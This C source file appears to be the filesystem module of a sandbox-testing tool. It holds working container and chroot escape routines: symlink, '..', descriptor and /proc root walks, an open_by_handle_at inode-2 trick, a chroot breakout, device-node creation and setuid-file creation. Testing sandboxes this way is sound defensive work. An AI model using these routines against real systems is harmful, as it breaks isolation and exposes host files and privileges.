/* SPDX-License-Identifier: Apache-2.0 */
/* attack_fs - files of the host: reading, writing, and the ways to walk out of a mount.
 */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../.."

static int read_file(char **arg)
{
	char text[256];

	return judge(read_some(arg[0], text, sizeof(text)) > 0 ? 0 : -1, arg[0]);
}

/* Reading is no breach in itself (a file of the sandbox's own may be there): the text is.
 */
static int read_match(char **arg)
{
	char text[8192];
	int n = read_some(arg[0], text, sizeof(text));

	if (n < 0)
		return refused("%s", arg[0]);
	if (memmem(text, (size_t)n, arg[1], strlen(arg[1])))
		return worked("%s holds %s", arg[0], arg[1]);
	errno = ENOENT;
	return refused("%s: read, but it is not the host's", arg[0]);
}

static int write_file(char **arg)
{
	return judge(write_text(arg[0], arg[1]), arg[0]);
}

static int create_file(char **arg)
{
	int fd = open(arg[0], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

	return judge(fd < 0 || write(fd, "x", 1) != 1 ? -1 : 0, arg[0]);
}

static int remove_file(char **arg)
{
	return judge(unlink(arg[0]), arg[0]);
}

static int list_dir(char **arg)
{
	DIR *d = opendir(arg[0]);
	struct dirent *e;

	while (d && (e = readdir(d)))
		if (strcmp(e->d_name, arg[1]) == 0)
			return worked("%s is seen in %s", arg[1], arg[0]);
	if (d)
		errno = ENOENT;
	return refused("%s", arg[0]);
}

static int try_read(const char *path, const char *want)
{
	char text[256];

	return read_some(path, text, sizeof(text)) > 0 && strstr(text, want);
}

/* symlink-walk DIR TARGET TEXT: a link made here, followed here, shows the host's file.
 */
static int symlink_walk(char **arg)
{
	char link[4096];

	snprintf(link, sizeof(link), "%s/walk-%d", arg[0], getpid());
	if (symlink(arg[1], link) < 0)
		return refused("symlink in %s", arg[0]);
	int rc = try_read(link, arg[2]) ? 0 : -1;
	int saved = errno;
	unlink(link);
	errno = saved;
	return judge(rc, "read through a symlink");
}

/* dotdot-walk PATH TEXT: every base from which ".." might lead above the root. */
static int dotdot_walk(char **arg)
{
	static const char *const bases[] = {"",
					    "/",
					    "/tmp/",
					    "/dev/",
					    "/proc/self/root/",
					    "/proc/self/cwd/",
					    "/proc/1/root/",
					    "/proc/1/cwd/",
					    "/proc/self/task/../root/",
					    "/dev/fd/",
					    "/usr/"};
	char path[4600];

	for (size_t i = 0; i < sizeof(bases) / sizeof(bases[0]); i++) {
		snprintf(path, sizeof(path), "%s" UP "%s", bases[i], arg[0]);
		if (try_read(path, arg[1]))
			return worked("%s", path);
	}
	return refused("%s by ..", arg[0]);
}

/* fd-walk PATH TEXT: any descriptor that was left open and leads outside. */
static int fd_walk(char **arg)
{
	char path[4600], text[256];

	for (int fd = 0; fd < 4096; fd++) {
		int found = openat(fd, arg[0][0] == '/' ? arg[0] + 1 : arg[0],
				   O_RDONLY | O_CLOEXEC);

		if (found < 0) {
			snprintf(path, sizeof(path), UP "%s", arg[0]);
			found = openat(fd, path, O_RDONLY | O_CLOEXEC);
		}
		ssize_t n = found < 0 ? -1 : read(found, text, sizeof(text) - 1);
		text[n > 0 ? n : 0] = '\0';
		if (strstr(text, arg[1]))
			return worked("descriptor %d leads to %s", fd, arg[0]);
		snprintf(path, sizeof(path), "/proc/self/fd/%d/%s%s", fd, UP, arg[0]);
		if (try_read(path, arg[1]))
			return worked("%s", path);
	}
	return refused("%s by descriptors", arg[0]);
}

/* proc-root PATH TEXT: the root or working directory of any process that can be seen. */
static int proc_root(char **arg)
{
	static const char *const doors[] = {"root", "cwd"};
	DIR *d = opendir("/proc");
	struct dirent *e;
	char path[4600];

	while (d && (e = readdir(d))) {
		if (e->d_name[0] < '1' || e->d_name[0] > '9')
			continue;
		for (int i = 0; i < 2; i++) {
			snprintf(path, sizeof(path), "/proc/%s/%s%s%s", e->d_name,
				 doors[i], i ? "/" UP : "", arg[0]);
			if (try_read(path, arg[1]))
				return worked("%s", path);
		}
	}
	return refused("%s by /proc/PID/root", arg[0]);
}

/* hardlink SRC DST: a second name for a file of the host in a place that can be written.
 */
static int hardlink(char **arg)
{
	return judge(link(arg[0], arg[1]), "link");
}

/* handle DIR PATH TEXT: the file handle of inode 2, the root of an ext file system,
 * opened by way of any directory on it (CVE-2014-9357 and kin). */
static int handle(char **arg)
{
	struct {
		struct file_handle h;
		unsigned char bytes[MAX_HANDLE_SZ];
	} f = {.h = {.handle_bytes = MAX_HANDLE_SZ}};
	unsigned ino = 2, gen = 0;
	int mount_id, at, root, fd;
	char text[256] = "";

	at = open(arg[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (at < 0)
		return refused("%s", arg[0]);
	if (name_to_handle_at(at, ".", &f.h, &mount_id, 0) == 0 &&
	    f.h.handle_bytes >= 8) {
		memcpy(f.h.f_handle, &ino, 4);
		memcpy(f.h.f_handle + 4, &gen, 4);
		f.h.handle_bytes = 8;
		f.h.handle_type = 1;
	} else {
		f.h.handle_bytes = 8;
		f.h.handle_type = 1;
		memcpy(f.bytes, &ino, 4);
		memcpy(f.bytes + 4, &gen, 4);
	}
	root = open_by_handle_at(at, &f.h, O_RDONLY);
	if (root < 0)
		return refused("open_by_handle_at");
	fd = openat(root, arg[1] + 1, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && read(fd, text, sizeof(text) - 1) > 0 && strstr(text, arg[2]))
		return worked("the root of the file system, and %s", arg[1]);
	return worked("a handle that was never given out");
}

/* chroot-escape DIR PATH TEXT: the classic: a second root below, then up past it. */
static int chroot_escape(char **arg)
{
	char dir[4096];

	snprintf(dir, sizeof(dir), "%s/jail-%d", arg[0], getpid());
	if (mkdir(dir, 0755) < 0)
		return refused("mkdir");
	int rc = chroot(dir);
	int saved = errno;
	if (rc < 0)
		rmdir(dir);
	errno = saved;
	if (rc < 0)
		return refused("chroot");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return refused("chdir");
	if (chroot(".") < 0)
		return refused("chroot .");
	rmdir(dir);
	return judge(try_read(arg[1], arg[2]) ? 0 : -1, "read after chroot");
}

/* mknod PATH TYPE MAJOR MINOR, then read: a device node of one's own. */
static int make_node(char **arg)
{
	mode_t type = arg[1][0] == 'b' ? S_IFBLK : S_IFCHR;
	dev_t dev = makedev((unsigned)strtoul(arg[2], NULL, 10),
			    (unsigned)strtoul(arg[3], NULL, 10));
	char byte[512];
	int rc, saved;

	if (mknod(arg[0], type | 0666, dev) < 0)
		return refused("mknod %s", arg[0]);
	rc = read_some(arg[0], byte, sizeof(byte));
	saved = errno;
	unlink(arg[0]);
	errno = saved;
	return judge(rc, "a device node was made and read");
}

/* suid FILE: runs a set-user-id copy of this program as `FILE euid-is-root`. */
static int suid(char **arg)
{
	execl(arg[0], arg[0], "euid-is-root", (char *)NULL);
	return refused("exec %s", arg[0]);
}

static int euid_is_root(char **arg)
{
	(void)arg;
	errno = EPERM;
	return judge(geteuid() == 0 && getuid() != 0 ? 0 : -1,
		     "euid 0 by a set-user-id file");
}

static int is_suid(const char *path)
{
	struct stat st;
	int yes = stat(path, &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID));

	unlink(path);
	return yes;
}

/* Each way to give a file the set-user-id or set-group-id bit. */
static void by_chmod(const char *path)
{
	close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755));
	chmod(path, 04755);
}

static void by_fchmod(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);

	fchmod(fd, 02755);
	syscall(SYS_fchmodat, AT_FDCWD, path, 04755);
	syscall(452 /* fchmodat2 */, AT_FDCWD, path, 04755, 0);
	close(fd);
}

static void by_open(const char *path)
{
	close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 04755));
}

static void by_creat(const char *path)
{
	close(creat(path, 04755));
}

static void by_old_open(const char *path)
{
#ifdef SYS_open
	close((int)syscall(SYS_open, path, O_WRONLY | O_CREAT, 06755));
#else
	(void)path;
#endif
}

static void by_openat2(const char *path)
{
	struct open_how how = {.flags = O_WRONLY | O_CREAT, .mode = 04755};

	close((int)syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof(how)));
}

static void by_tmpfile(const char *path)
{
	char dir[4096], link[64];
	int fd;

	snprintf(dir, sizeof(dir), "%.*s", (int)(strrchr(path, '/') - path), path);
	fd = open(dir, O_TMPFILE | O_WRONLY, 04755);
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	if (fd >= 0)
		linkat(AT_FDCWD, link, AT_FDCWD, path, AT_SYMLINK_FOLLOW);
	close(fd);
}

static void by_mknod(const char *path)
{
	mknod(path, S_IFREG | 04755, 0);
}

/* make-suid DIR: any of them. */
static int make_suid(char **arg)
{
	static const struct {
		const char *name;
		void (*make)(const char *path);
	} ways[] = {
		{"chmod",     by_chmod   },
                {"fchmod",    by_fchmod  },
		{"open",      by_open    },
                {"creat",     by_creat   },
		{"SYS_open",  by_old_open},
                {"openat2",   by_openat2 },
		{"O_TMPFILE", by_tmpfile },
                {"mknod",     by_mknod   },
	};
	char path[4096];

	umask(0);
	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
		snprintf(path, sizeof(path), "%s/suid-%d-%zu", arg[0], getpid(), i);
		ways[i].make(path);
		if (is_suid(path))
			return worked("a set-user-id file by %s", ways[i].name);
	}
	errno = EPERM;
	return refused("a set-user-id file");
}

const struct attack fs_attacks[] = {
	{"read",          1, read_file    },
	{"read-match",    2, read_match   },
	{"write",         2, write_file   },
	{"create",        1, create_file  },
	{"unlink",        1, remove_file  },
	{"list",          2, list_dir     },
	{"symlink-walk",  3, symlink_walk },
	{"dotdot-walk",   2, dotdot_walk  },
	{"fd-walk",       2, fd_walk      },
	{"proc-root",     2, proc_root    },
	{"hardlink",      2, hardlink     },
	{"handle",        3, handle       },
	{"chroot-escape", 3, chroot_escape},
	{"mknod",         4, make_node    },
	{"suid",          1, suid         },
	{"euid-is-root",  0, euid_is_root },
	{"make-suid",     1, make_suid    },
	{NULL,            0, NULL         },
};
